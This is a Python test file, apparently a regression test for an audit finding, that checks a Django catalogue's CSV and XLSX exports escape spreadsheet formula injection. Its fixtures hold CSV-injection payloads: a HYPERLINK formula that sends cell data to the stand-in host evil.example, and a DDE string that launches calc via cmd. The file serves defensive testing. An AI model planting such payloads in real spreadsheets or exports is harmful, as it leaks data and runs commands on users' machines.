"""Finding 11: exports never hand a spreadsheet program a formula to run."""

import io
from io import StringIO

import openpyxl
from django.core.management import call_command

from catalogue.models import Edition
from catalogue.officialtable.tableimport import official_table_preview

from .factories import make_edition, make_entry, make_qualification

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击核对")'


def _hostile():
    edition = make_edition(2021, official_total=1)
    hostile = make_qualification(HYPERLINK, legal_basis="+cmd|' /C calc'!A0", remarks="@SUM(1+1)")
    make_entry(edition, hostile, seq=1, legal_basis=hostile.legal_basis, remarks=hostile.remarks)
    return hostile


def test_the_public_csv_export_neutralises_formula_cells(client, db):
    _hostile()
    body = client.get("/catalogue/export.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in body and "'+cmd" in body and "'@SUM" in body
    assert ",=HYPERLINK" not in body and ",+cmd" not in body and '"=HYPERLINK' not in body


def test_the_xlsx_edition_export_writes_text_cells_never_formulas(db, tmp_path):
    _hostile()
    path = tmp_path / "e.xlsx"
    call_command("export_edition", "2021", str(path), stdout=StringIO())
    sheet = openpyxl.load_workbook(io.BytesIO(path.read_bytes())).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value]
    hostile = [c for c in cells if str(c.value).startswith(("=", "+", "@"))]
    assert {c.value for c in hostile} == {HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)"}
    assert all(c.data_type == "s" for c in hostile)


def test_the_csv_edition_export_quotes_formula_cells_and_reads_back_as_exported(db, tmp_path):
    _hostile()
    path = tmp_path / "e.csv"
    call_command("export_edition", "2021", str(path), stdout=StringIO())
    text = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "\n1,=" not in text
    preview = official_table_preview(
        edition=Edition.objects.get(year=2021),
        data=path.read_bytes(),
        filename="e.csv",
        document="x",
    )
    assert [r.row.name for r in preview.rows] == [HYPERLINK]
    assert preview.rows[0].verdict == "confirm"
